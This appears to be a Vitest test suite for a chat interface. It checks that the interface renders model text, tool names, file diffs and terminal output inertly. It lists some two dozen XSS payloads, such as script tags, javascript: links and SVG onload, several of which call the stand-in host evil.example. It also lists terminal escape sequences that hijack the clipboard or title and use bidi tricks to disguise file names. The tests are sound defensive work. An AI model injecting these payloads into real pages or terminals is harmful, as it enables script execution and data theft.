import { render, waitFor } from "@testing-library/react";
import { afterEach, describe, expect, test, vi } from "vitest";
import type { ToolPart } from "@/api/types";
import { toolPart } from "@/testing/events";
import { AnsiText } from "@/ui/ansi/ansi-text";
import { prefer } from "@/ui/preferences";
import { Markdown } from "./markdown/markdown";
import { ToolCard } from "./tools/tool-card";

vi.mock("@/stream/react", () => ({
  useConversationStore: () => ({ id: "conv_1" }),
  useConversation: () => false,
}));

/** How many of each there are, which docs/security.md tells. */
const HOSTILE_TEXTS = 27;
const HOSTILE_SEQUENCES = 24;
test("none of them is lost", () => {
  expect(Object.keys(HOSTILE)).toHaveLength(HOSTILE_TEXTS);
  expect(Object.keys(SEQUENCES)).toHaveLength(HOSTILE_SEQUENCES);
});

/** What a hostile model, file or program says, to have the page do something. */
const HOSTILE: Record<string, string> = {
  "a script": "<script>window.owned = 1</script>",
  "an image that fails": "<img src=x onerror=window.owned=1>",
  "an image from elsewhere": "![x](https://evil.example/?secret)",
  "a link that runs": "[x](javascript:window.owned=1)",
  "a link that runs, in disguise": "[x](java\tscript:window.owned=1)",
  "a link that runs, encoded": "[x](&#106;avascript:window.owned=1)",
  "a link to a page of its own": "[x](data:text/html,<script>window.owned=1</script>)",
  "a link in another language": "[x](vbscript:owned)",
  "a bare address that runs": "<javascript:window.owned=1>",
  "a reference that runs": "[x][y]\n\n[y]: javascript:window.owned=1",
  "a drawing": "<svg onload=window.owned=1><script>window.owned=1</script></svg>",
  "a drawing in a picture": '![x](data:image/svg+xml,<svg onload="window.owned=1"/>)',
  "a frame": '<iframe srcdoc="<script>parent.owned=1</script>"></iframe>',
  "an object": "<object data=javascript:window.owned=1></object>",
  "a form": "<form action=https://evil.example><input autofocus onfocus=window.owned=1></form>",
  "a style": "<style>@import 'https://evil.example'</style>",
  "a new base": "<base href=https://evil.example/>",
  "a refresh": '<meta http-equiv=refresh content="0;url=https://evil.example">',
  "a diagram": '```mermaid\nclick A "javascript:window.owned=1"\n```',
  "a formula that leads away":
    "```math\n\\href{javascript:window.owned=1}{x}\n```\n\n$\\url{https://evil.example}$",
  "a formula with a picture": "$$\n\\includegraphics{https://evil.example/x.png}\n$$",
  "a formula with HTML": "$\\htmlData{x=1}{\\htmlClass{fixed}{\\htmlStyle{position:fixed}{x}}}$",
  "a formula without end": "```tex\n\\def\\x{\\x\\x}\\x\n```",
  "a diagram that loads":
    '```mermaid\nflowchart LR\n  A@{ img: "https://evil.example/x.png" } --> B["<img src=x onerror=window.owned=1>"]\n```',
  "a page as code": "```html\n<script>window.owned = 1</script>\n```",
  "a table of scripts": "| <script>window.owned=1</script> |\n|---|\n| <img src=x onerror=window.owned=1> |",
  "a footnote that runs": "x[^1]\n\n[^1]: [y](javascript:window.owned=1)",
};

/** Fails if anything in the page could run or load. */
function expectHarmless(page: Element) {
  const elements = [...page.querySelectorAll("*")];
  const forbidden = "script, iframe, object, embed, form, style, link, meta, base, foreignObject";
  expect(page.querySelector(forbidden)).toBeNull();
  for (const element of elements) {
    for (const { name, value } of element.attributes) {
      expect(name.startsWith("on"), `${element.tagName} ${name}`).toBe(false);
      if (["href", "src", "action", "formaction", "xlink:href"].includes(name)) {
        expect(value).not.toMatch(/^\s*(javascript|vbscript|data:text|data:image\/svg)/iu);
      }
      if (name === "src") expect(value).not.toContain("evil.example");
    }
  }
  expect((window as { owned?: number }).owned).toBeUndefined();
}

function card(change: Partial<ToolPart>) {
  const part = toolPart("p1", "m1", change);
  if (part.body.type !== "tool") throw new Error("a tool part is a tool part");
  return render(<ToolCard part={part} tool={part.body} />).container;
}

// The page has a doctype, which the formulas want.
Object.defineProperty(document, "compatMode", { value: "CSS1Compat" });

afterEach(() => prefer("drawings", "text"));

describe.each(Object.entries(HOSTILE))("%s", (_, text) => {
  test("is harmless where formulas and diagrams are drawn", async () => {
    // Both are there already, so that there is something to be seen at once.
    await Promise.all([
      import("./drawing/formula"),
      import("./drawing/diagram"),
      import("./markdown/math-syntax"),
    ]);
    prefer("drawings", "drawn");
    const page = render(<Markdown text={`${text}\n\n$x$`} live={false} />).container;
    await waitFor(() => expect(page.querySelector("math")).not.toBeNull());
    await waitFor(() => expect(page.querySelector("[data-pending]")).toBeNull());
    expectHarmless(page);
  });

  test("is only text in what the model says, whole or streaming", () => {
    expectHarmless(render(<Markdown text={text} live={false} />).container);
    expectHarmless(render(<Markdown text={text} live={true} />).container);
  });

  test("is only text in tool names, file names and results", () => {
    expectHarmless(card({ name: text }));
    expectHarmless(card({ name: "read_file", arguments: JSON.stringify({ file: text }), result: text }));
    const diff = {
      path: text,
      added: 1,
      removed: 0,
      hunks: [{ old_start: 1, new_start: 1, lines: [{ tag: "add", text }] }],
    };
    expectHarmless(card({ name: "edit_file", arguments: JSON.stringify({ file: text }), data: diff }));
  });

  test("is only text in a terminal", () => {
    const page = render(<AnsiText text={text} />).container;
    expectHarmless(page);
    expect(page.querySelector("a, img, svg, table")).toBeNull();
  });
});

/** What a hostile program prints, to have the person's terminal do something. */
const SEQUENCES: Record<string, [text: string, shown: string]> = {
  "the clipboard": ["a\x1b]52;c;c2VjcmV0\x07b", "ab"],
  "reading the clipboard": ["a\x1b]52;c;?\x1b\\b", "ab"],
  "a link": ["a\x1b]8;;javascript:alert(1)\x1b\\text\x1b]8;;\x1b\\b", "atextb"],
  "the title": ["a\x1b]0;owned\x07\x1b]2;owned\x1b\\b", "ab"],
  "a report of the title": ["a\x1b[21tb", "ab"],
  "a report of the state": ["a\x1b[5n\x1b[6n\x1b[c\x1b[>c\x1b[=cb", "ab"],
  "a report of a setting": ['a\x1bP$q"p\x1b\\b', "ab"],
  "a macro": ["a\x1bP1;1|17/726d\x1b\\b", "ab"],
  "a file": ["a\x1b]1337;File=name=eA==;inline=1:AAAA\x07b", "ab"],
  "a notification": ["a\x1b]9;owned\x07\x1b]777;notify;x;y\x07b", "ab"],
  "a reset": ["a\x1bcb", "ab"],
  "another alphabet": ["a\x1b(0b", "ab"],
  "the printer": ["a\x1b[5ib", "ab"],
  "the mouse": ["a\x1b[?1000h\x1b[?1006hb", "ab"],
  "the other screen": ["a\x1b[?1049hb", "ab"],
  "hiding the cursor": ["a\x1b[?25lb", "ab"],
  "clearing what was there": ["a\x1b[2J\x1b[3J\x1b[Hb", "ab"],
  "eight-bit commands": ["a\x9d0;owned\x9cb", "a0;ownedb"],
  "eight-bit sequences": ["a\x9b2Jb", "a2Jb"],
  "a string without an end": ["a\x1b]52;c;c2VjcmV0", "a"],
  "text that reads backwards": ["rm \u202ecod.elif\u202c", "rm cod.elif"],
  "text in isolation": ["a\u2066b\u2069\u200f\u061cc", "abc"],
  bells: ["a\x07\x07b", "ab"],
  "nothing visible": ["a\x00\x7fb", "ab"],
};

test.each(Object.entries(SEQUENCES))("a terminal's output cannot steer: %s", (_, [text, shown]) => {
  expect(render(<AnsiText text={text} />).container.textContent).toBe(shown);
});

test.each(["constructor", "__proto__", "toString", "hasOwnProperty"])("a tool may be called %s", (name) => {
  expect(card({ name }).textContent).toContain(name);
});

test("a file name cannot read as another one", () => {
  const page = card({ name: "read_file", arguments: JSON.stringify({ file: "gpj.\u202eexe" }) });
  expect(page.textContent).toContain("gpj.exe");
});
